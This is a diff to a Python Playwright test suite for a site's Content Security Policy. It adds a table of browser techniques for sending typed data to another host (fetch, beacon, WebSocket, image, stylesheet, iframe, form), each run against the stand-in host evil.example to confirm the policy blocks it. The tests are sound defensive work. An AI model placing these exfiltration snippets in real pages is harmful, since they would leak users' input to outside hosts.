@@ -26,6 +26,23 @@ LOADS = """address => new Promise((resolve) => {
   for (const type of ["load", "error"]) script.addEventListener(type, () => resolve(type));
   try { script.src = address; document.head.append(script); } catch (error) { resolve(error.message); } })"""
 
+WAYS_TO_SEND = {
+    "fetch": ("connect-src", "fetch(address, { method: 'POST', body: 'x' }).catch(() => {})"),
+    "beacon": ("connect-src", "navigator.sendBeacon(address, 'x')"),
+    "socket": ("connect-src", "{ try { new WebSocket(address); } catch { /* Some browsers throw, too. */ } }"),
+    "picture": ("img-src", "new Image().src = address"),
+    "style sheet": (
+        "style-src-elem",
+        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }))",
+    ),
+    "frame": ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), { src: address }))"),
+    "form": (
+        "form-action",
+        "{ const form = document.createElement('form'); form.action = address; document.body.append(form); form.submit(); }",
+    ),
+}
+"""Ways of sending what a reader has typed to another host, each with the part of the policy that forbids it."""
+
 
 @pytest.fixture(scope="module")
 def open_page(browser: Browser, address: str) -> Iterator[Page]:
@@ -40,6 +57,20 @@ def open_page(browser: Browser, address: str) -> Iterator[Page]:
 def test_no_text_becomes_html_or_a_script(open_page: Page, way: str) -> None:
     with pytest.raises(Error, match="This document requires 'Trusted"):
         open_page.evaluate(TEXTS_THAT_RUN[way], "<b>x</b>")
+
+
+@pytest.mark.parametrize("way", WAYS_TO_SEND)
+def test_nothing_is_sent_to_another_host(open_page: Page, way: str) -> None:
+    directive, code = WAYS_TO_SEND[way]
+    script = f"""address => new Promise((resolve) => {{
+      const tell = (event) => resolve([event.effectiveDirective, event.blockedURI]);
+      document.addEventListener("securitypolicyviolation", tell, {{ once: true }});
+      {code};
+      setTimeout(() => resolve(["none", "it was sent"]), 5000);
+    }})"""
+    refused, blocked = open_page.evaluate(script, "https://evil.example/x")
+    assert refused == directive
+    assert "://evil.example" in blocked
 
 
 def test_only_a_script_of_this_site_is_loaded_later(open_page: Page, address: str) -> None:
@@ -87,5 +118,5 @@ def test_another_site_cannot_show_the_guide_in_a_frame(browser: Browser, site: P
             page.goto(other)
             frame = page.frames[1]
             frame.wait_for_load_state()
-            assert (frame.locator("h1").count() == 1) == shown
+            assert (frame.locator("article h1").count() == 1) == shown
         page.close()
